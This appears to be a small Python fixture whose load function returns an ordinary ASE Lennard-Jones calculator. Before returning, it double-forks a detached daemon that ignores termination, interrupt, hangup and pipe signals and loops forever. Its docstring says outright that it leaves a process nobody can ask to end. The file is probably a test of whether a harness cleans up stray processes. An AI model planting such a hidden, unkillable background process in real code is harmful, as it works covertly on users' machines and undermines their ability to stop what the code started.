"""Answers well, and leaves a process that nobody can ask to end."""

import os
import signal
import time

from ase.calculators.lj import LennardJones


def load(device):
    if os.fork() == 0:
        os.setsid()
        for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE):
            signal.signal(number, signal.SIG_IGN)
        if os.fork():
            os._exit(0)
        while True:
            time.sleep(1)
    return LennardJones(sigma=3.405, epsilon=0.01032, rc=10.0)
